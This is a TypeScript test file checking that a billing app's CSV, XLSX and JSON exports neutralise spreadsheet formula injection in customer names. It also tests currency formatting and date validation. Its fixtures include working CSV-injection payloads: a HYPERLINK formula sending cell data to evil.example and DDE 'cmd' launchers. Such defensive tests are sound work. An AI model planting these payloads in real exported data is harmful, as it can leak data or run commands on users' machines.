import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import Stripe from 'stripe';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExportOutput } from '../../shared/exports';
import { syncedWorkspace } from '../recovery/helpers';

// exports.create (#19) on a workspace synced from the local Stripe server whose
// customer names (and a segment's name) are text a spreadsheet would run.
type Env = Awaited<ReturnType<typeof syncedWorkspace>>;
let env: Env;

const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\uFF1D1+1'];
const HOSTILE_SEGMENT = '=1+2 VIPs';

beforeAll(async () => {
  env = await syncedWorkspace({ seed: 41, customers: 90 });
  const stripe = new Stripe(env.key, { host: '127.0.0.1', port: Number(new URL(env.sim.url).port), protocol: 'http', maxNetworkRetries: 0 });
  const customers = await stripe.customers.list({ limit: 100 });
  for (const [i, c] of customers.data.entries()) await stripe.customers.update(c.id, { name: HOSTILE[i % HOSTILE.length]! });
  const { done } = await env.core.sync.start(env.workspaceId);
  await done;
  await env.call('segments.create', { workspaceId: env.workspaceId, name: HOSTILE_SEGMENT, description: '@cmd description', rule: { combinator: 'and', rules: [{ field: 'mrr', operator: '>=', value: 0 }] } });
  await env.call('runs.plan', { workspaceId: env.workspaceId });
}, 240_000);
afterAll(async () => {
  await env?.core.close();
  await env?.sim.close();
});

const create = (what: 'segments' | 'members' | 'plans' | 'runs' | 'audit', format: 'csv' | 'xlsx' | 'json', extra: { segment?: string } = {}) =>
  env.call('exports.create', { workspaceId: env.workspaceId, what, format, ...extra });

const csvRecords = (x: ExportOutput) => parseCsv(x.content, { columns: true }) as Record<string, string>[];

describe('CSV exports neutralise formulas in every table that holds customer text', () => {
  for (const what of ['segments', 'members', 'plans', 'audit'] as const) {
    it(`${what}: no cell starts a formula; hostile text keeps its value behind a quote`, async () => {
      const x = await create(what, 'csv');
      expect(x.mime).toMatch(/^text\/csv/);
      expect(x.content.includes('\r\n')).toBe(true);
      const records = csvRecords(x);
      expect(records.length).toBe(x.rows);
      expect(records.length).toBeGreaterThan(0);
      const bad = records.flatMap((r) => Object.values(r).filter((v) => FORMULA_START.test(v) && !NUMBER.test(v)));
      expect(bad).toEqual([]);
      const text = Object.values(records).flatMap((r) => Object.values(r));
      if (what === 'segments') expect(text).toContain(`'${HOSTILE_SEGMENT}`);
      if (what === 'members' || what === 'plans') for (const h of HOSTILE) expect(text).toContain(`'${h}`);
    });
  }

  it('members of one segment; an unknown segment names the known ones', async () => {
    const all = await create('members', 'csv');
    const ent = await create('members', 'csv', { segment: 'enterprise' });
    expect(ent.rows).toBeGreaterThan(0);
    expect(ent.rows).toBeLessThan(all.rows);
    expect(ent.fileName).toMatch(/^reclaim-members-enterprise-\d{4}-\d{2}-\d{2}\.csv$/);
    await expect(create('members', 'csv', { segment: 'Nope' })).rejects.toThrow(/There is no segment "Nope"\. Segments: .*Enterprise/);
  });

  it('the plan has money in major units with the invoice currency, and the workspace-currency amount in its own column', async () => {
    const plan = (await env.call('runs.plan', { workspaceId: env.workspaceId }));
    const x = await create('plans', 'csv');
    const records = csvRecords(x);
    expect(Object.keys(records[0]!)).toEqual(expect.arrayContaining(['amount_due', 'currency', 'amount_at_risk_usd']));
    expect(Object.keys(records[0]!).some((k) => /minor/.test(k))).toBe(false);
    const row = plan.rows[0]!;
    const rec = records.find((r) => r.invoice === row.invoiceId)!;
    expect(rec.currency).toBe(row.currency.toUpperCase());
    expect(Number(rec.amount_due)).toBeCloseTo(row.amountDue / (row.currency === 'jpy' ? 1 : 100), 6);
    // The Runs page's plan CSV (runs.planExport, `run plan --out`) is the same table: no minor units of mixed currencies.
    const old = await env.call('runs.planExport', { workspaceId: env.workspaceId, planId: plan.planId, format: 'csv' });
    const header = old.text.split('\r\n')[0]!.split(',');
    expect(header).toEqual(expect.arrayContaining(['amount_due', 'currency', 'amount_at_risk_usd']));
    expect(header.filter((h) => /minor/.test(h))).toEqual([]);
  });
});

describe('XLSX exports read back with exceljs', () => {
  it('members: one sheet, typed cells (numbers, dates), the currency format on money', async () => {
    const x = await create('members', 'xlsx');
    expect(x.encoding).toBe('base64');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(x.content, 'base64') as unknown as ArrayBuffer);
    expect(wb.worksheets.map((w) => w.name)).toEqual(['Customers']);
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const at = (title: string) => header.indexOf(title) + 1;
    expect(ws.rowCount - 1).toBe(x.rows);
    let withMrr = 0;
    for (let r = 2; r <= ws.rowCount; r++) {
      const row = ws.getRow(r);
      const mrr = row.getCell(at('MRR'));
      expect(typeof mrr.value).toBe('number');
      expect(mrr.numFmt).toBe('"$"#,##0.00');
      if ((mrr.value as number) > 0) withMrr++;
      expect(row.getCell(at('Customer since')).value).toBeInstanceOf(Date);
      expect(typeof row.getCell(at('Tenure (days)')).value).toBe('number');
      // Hostile names are text cells, never formulas.
      const name = row.getCell(at('Name'));
      expect(name.type).not.toBe(ExcelJS.ValueType.Formula);
    }
    expect(withMrr).toBeGreaterThan(0);
  });

  it('plans: a per-row currency format follows the invoice currency', async () => {
    const x = await create('plans', 'xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(x.content, 'base64') as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const header = (ws.getRow(1).values as unknown[]).slice(1);
    const due = header.indexOf('Amount due') + 1;
    const cur = header.indexOf('Currency') + 1;
    const risk = header.indexOf('Amount at risk (USD)') + 1;
    expect(due * cur * risk).toBeGreaterThan(0);
    const currencies = new Set<string>();
    for (let r = 2; r <= ws.rowCount; r++) {
      const row = ws.getRow(r);
      const code = String(row.getCell(cur).value);
      currencies.add(code);
      expect(typeof row.getCell(due).value).toBe('number');
      const fmt = row.getCell(due).numFmt;
      if (code === 'USD') expect(fmt).toBe('"$"#,##0.00');
      if (code === 'EUR') expect(fmt).toBe('"€"#,##0.00');
      if (code === 'JPY') expect(fmt).toBe('"¥"#,##0');
      expect(row.getCell(risk).numFmt).toBe('"$"#,##0.00');
    }
    expect(currencies.size).toBeGreaterThan(0);
  });
});

describe('JSON exports and the app cap', () => {
  it('runs and audit as JSON tables with typed columns', async () => {
    const x = await create('audit', 'json');
    const doc = JSON.parse(x.content) as { workspace: { name: string }; tables: { name: string; columns: { key: string; type: string }[]; rows: Record<string, unknown>[] }[] };
    expect(doc.tables).toHaveLength(1);
    expect(doc.tables[0]!.rows.length).toBe(x.rows);
    expect(typeof doc.tables[0]!.rows[0]!.id).toBe('number');
    expect(doc.tables[0]!.rows[0]!.at).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    const runs = await create('runs', 'json');
    expect(JSON.parse(runs.content).tables[0].columns.find((c: { key: string }) => c.key === 'recovered_amount')).toMatchObject({ type: 'money', currency: 'USD' });
  });

  it('bad dates are refused in words', async () => {
    await expect(env.call('exports.create', { workspaceId: env.workspaceId, what: 'audit', format: 'csv', from: '2026-02-30' })).rejects.toThrow(/--from must be a date as YYYY-MM-DD, got "2026-02-30"/);
    await expect(env.call('exports.create', { workspaceId: env.workspaceId, what: 'audit', format: 'csv', from: '2026-03-02', to: '2026-03-01' })).rejects.toThrow(/--from \(2026-03-02\) is after --to \(2026-03-01\)/);
  });
});
